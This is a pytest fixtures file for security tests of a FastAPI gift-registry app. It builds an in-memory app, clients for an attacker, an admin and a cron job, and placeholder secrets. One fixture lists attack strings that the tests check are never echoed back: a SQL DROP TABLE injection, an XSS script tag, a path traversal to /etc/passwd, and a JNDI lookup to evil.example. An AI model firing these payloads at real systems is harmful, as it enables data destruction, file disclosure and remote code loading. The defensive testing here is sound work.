"""Security test fixtures.

Responsibilities:
- Creates the FastAPI `app` fixture from create_app() with in-memory backends
- Wraps it in client / admin_client / cron_client
- Scoped to tests/security/ only -- invisible to non-security tests

Each test gets a fresh app, so webhook and admin rate-limit counters never
leak between tests.
"""

from __future__ import annotations

import hashlib

import pytest
from fastapi.testclient import TestClient

from wishcraft.app import create_app
from wishcraft.config import Settings
from wishcraft.security.crypto import GiftMessageCipher
from wishcraft.store.memory import InMemoryStore
from wishcraft.webhooks.idempotency import InMemoryIdempotencyStore
from wishcraft.webhooks.ratelimit import WebhookRateLimiter

ADMIN_TOKEN = "admin-token-for-tests"
CRON_SECRET = "cron-secret-for-tests"


@pytest.fixture
def security_settings() -> Settings:
    return Settings(
        shopify_webhook_secret="shopify-test-secret",
        data_encryption_key="test-encryption-key",
        store_backend="memory",
        admin_api_token=ADMIN_TOKEN,
        cron_secret=CRON_SECRET,
        cors_allowed_origins=("https://admin.shopify.com",),
    )


@pytest.fixture
def app_store() -> InMemoryStore:
    return InMemoryStore()


@pytest.fixture
def app(security_settings, app_store):
    """Full route table, auth middleware, CORS and rate limiting; no Redis, no Postgres."""
    return create_app(
        security_settings,
        store=app_store,
        idempotency=InMemoryIdempotencyStore(),
        rate_limiter=WebhookRateLimiter.from_uri("memory://"),
        cipher=GiftMessageCipher(hashlib.sha256(b"test-encryption-key").digest()),
    )


@pytest.fixture
def client(app):
    """Unauthenticated TestClient (attacker perspective)."""
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c


@pytest.fixture
def admin_headers() -> dict[str, str]:
    return {"Authorization": f"Bearer {ADMIN_TOKEN}"}


@pytest.fixture
def cron_headers() -> dict[str, str]:
    return {"Authorization": f"Bearer {CRON_SECRET}"}


@pytest.fixture
def malicious_payloads() -> list[str]:
    """Strings that must never come back in a response body."""
    return [
        "'; DROP TABLE registries; --",
        "<script>alert('xss')</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
    ]
